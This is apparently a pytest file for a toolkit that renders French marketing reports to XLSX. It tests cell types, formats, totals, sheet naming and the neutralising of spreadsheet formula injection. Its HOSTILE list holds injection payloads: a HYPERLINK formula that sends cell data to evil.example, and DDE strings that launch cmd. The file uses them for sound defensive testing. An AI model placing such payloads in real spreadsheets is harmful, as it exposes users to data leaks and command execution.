"""XLSX read back with openpyxl: typed cells, formats, formulas, frozen header, injection."""

from __future__ import annotations

import datetime as dt

import openpyxl
import pytest

from toolkit.document import Document, Section, Table
from toolkit.render.xlsx import (
    number_format_for,
    safe_cell_value,
    safe_sheet_title,
    write_table,
    write_xlsx,
)

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def wb(rendered_fr):
    return openpyxl.load_workbook(rendered_fr["xlsx"])


def test_summary_sheet_first_then_one_sheet_per_table(wb) -> None:
    assert wb.sheetnames[0] == "Sommaire"
    assert {"Budget", "Trafic hebdo", "Chiffres clés", "Grille d'auto-évaluation", "Graphiques"} <= set(wb.sheetnames)
    summary = wb["Sommaire"]
    values = [c.value for row in summary.iter_rows() for c in row if c.value is not None]
    assert "Bilan de campagne digitale" in values and "Brûlerie Sauvage" in values
    assert dt.datetime(2026, 11, 29) in values
    links = [c.hyperlink.location or c.hyperlink.target for row in summary.iter_rows() for c in row if c.hyperlink]
    assert "'Budget'!A1" in [link.lstrip("#") for link in links]


def test_cells_are_typed_with_number_formats(wb) -> None:
    ws = wb["Budget"]
    header = [c.value for c in ws[3]]
    assert header == ["Levier", "Budget", "Réalisé", "Écart", "Taux", "Conversions", "Début"]
    row = ws[4]
    assert row[1].value == 4200 and isinstance(row[1].value, int | float)
    assert row[1].number_format == '#,##0.00 "€"'
    assert row[4].number_format == "0.0%" and abs(row[4].value - 0.1025) < 1e-9
    assert row[5].number_format == "#,##0" and row[5].value == 310
    assert isinstance(row[6].value, dt.datetime) and row[6].number_format == "DD/MM/YYYY"
    assert row[0].data_type == "s"


def test_totals_are_live_sum_formulas(wb) -> None:
    ws = wb["Budget"]
    total = ws[8]
    assert total[0].value == "Total"
    assert total[1].value == "=SUM(B4:B7)" and total[1].data_type == "f"
    assert total[5].value == "=SUM(F4:F7)"
    assert total[4].value is None  # the rate column is not summed


def test_header_frozen_filtered_and_styled(wb) -> None:
    ws = wb["Budget"]
    assert ws.freeze_panes == "A4"
    assert ws.auto_filter.ref == "A3:G7"
    assert ws["A3"].font.b and ws["A3"].fill.fgColor.rgb.endswith("1F3A5F")
    assert ws.column_dimensions["A"].width >= 14


def test_hostile_text_is_neutralised(tmp_path) -> None:
    table = Table(columns=("Avis", "Note"), rows=tuple((h, 1) for h in HOSTILE), kinds=("text", "integer"),
                  caption="=cmd caption", name="=evil")
    path = write_xlsx(Document("=1+1", sections=(Section("s", [table]),), client="@client"), tmp_path / "h.xlsx")
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and not c.value.startswith("=SUM("):
                    assert c.data_type != "f", c.value
                    assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r")), c.value
    ws = wb["=evil"] if "=evil" in wb.sheetnames else wb.worksheets[1]
    texts = [ws.cell(row=r, column=1).value for r in range(4, 4 + len(HOSTILE))]
    assert texts == ["'" + h for h in HOSTILE]  # the text itself is kept, behind the apostrophe


def test_safe_cell_value_rules() -> None:
    assert safe_cell_value("=1+1") == "'=1+1"
    assert safe_cell_value("@x") == "'@x"
    assert safe_cell_value("-") == "-"  # a lone dash cannot be a formula
    assert safe_cell_value("Brûlerie") == "Brûlerie"
    assert safe_cell_value("a\x00b\x07c") == "abc"
    assert safe_cell_value(float("nan")) is None
    assert safe_cell_value(3) == 3 and safe_cell_value(2.5) == 2.5
    assert safe_cell_value(dt.date(2026, 1, 2)) == dt.date(2026, 1, 2)
    assert len(safe_cell_value("x" * 40000)) == 32767
    aware = dt.datetime(2026, 3, 1, 9, 30, tzinfo=dt.timezone(dt.timedelta(hours=1)))
    assert safe_cell_value(aware) == dt.datetime(2026, 3, 1, 9, 30)  # openpyxl rejects aware datetimes


def test_number_formats_by_kind_and_language() -> None:
    assert number_format_for("currency", "fr") == '#,##0.00 "€"'
    assert number_format_for("currency", "en") == '"€"#,##0.00'
    assert number_format_for("percent", "fr") == "0.0%"
    assert number_format_for("date", "fr") == "DD/MM/YYYY"
    assert number_format_for("date", "en") == "YYYY-MM-DD"
    assert number_format_for("integer", "fr") == "#,##0"
    assert number_format_for("text", "fr") == "General"


def test_sheet_titles_are_valid_and_unique() -> None:
    used: set[str] = set()
    a = safe_sheet_title("Budget: 2026/2027 [v2]*?", used)
    assert not set("[]:*?/\\") & set(a)
    b = safe_sheet_title("x" * 40, used)
    c = safe_sheet_title("X" * 40, used)  # Excel compares names case-insensitively
    assert len(b) == 31 and len(c) <= 31 and b.lower() != c.lower()
    assert safe_sheet_title("", used, "Feuille") == "Feuille"


def test_write_table_on_an_existing_sheet_returns_rows() -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    t = Table(("a", "b"), (("x", 1.0), ("y", 2.0)), ("text", "number"), totals=("b",))
    assert write_table(ws, t, "fr", start_row=5) == (5, 8)
    assert ws["B8"].value == "=SUM(B6:B7)"
    assert ws.freeze_panes == "A6"


def test_charts_sheet_keeps_alt_text(rendered_fr) -> None:
    import zipfile

    with zipfile.ZipFile(rendered_fr["xlsx"]) as z:
        drawings = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/drawings/drawing")]
    assert drawings
    assert "Google Ads est le premier poste de dépenses" in "".join(drawings)
    assert "".join(drawings).count("descr=") == 3


def test_long_sheet_names_keep_a_meaningful_head() -> None:
    used: set[str] = set()
    assert safe_sheet_title("Grille d'auto-évaluation — Veille marketing — étude des tendances", used) == \
        "Grille d'auto-évaluation"
    assert safe_sheet_title("P1 — Canal boutique · département 69 (Rhône)", used) == "P1 — Canal boutique"


def test_untitled_key_figures_sheets_take_their_section_name(tmp_path) -> None:
    from toolkit.document import KeyFigure, KeyFigures

    doc = Document("D", sections=(Section("Personas", [
        Section("P1 — Boutique", [KeyFigures([KeyFigure("Clients", 868, "integer")])]),
        Section("P2 — Abonnés", [KeyFigures([KeyFigure("Clients", 651, "integer")])]),
    ]),))
    wb = openpyxl.load_workbook(write_xlsx(doc, tmp_path / "k.xlsx"))
    assert wb.sheetnames[1:] == ["P1 — Boutique", "P2 — Abonnés"]
    assert wb["P1 — Boutique"]["B4"].value == 868
